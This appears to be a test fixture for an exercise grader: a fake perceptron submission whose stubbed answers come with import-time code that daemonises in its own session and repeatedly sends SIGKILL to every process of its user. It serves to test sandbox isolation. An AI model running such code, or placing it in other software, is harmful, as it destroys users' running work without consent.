"""At import, leaves a daemon behind (its own session, so not in the exercise's
process group) that later kills every process of its user: it would take the
next exercise down with it if it outlived this one."""
import os
import signal
import time

WORDS = ""

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(0.5)
        while True:
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
            time.sleep(0.01)
    os._exit(0)
os.wait()


def perceptron(x, w, b):
    return 1


def nand_parameters():
    return (1.0, 1.0), 1.0
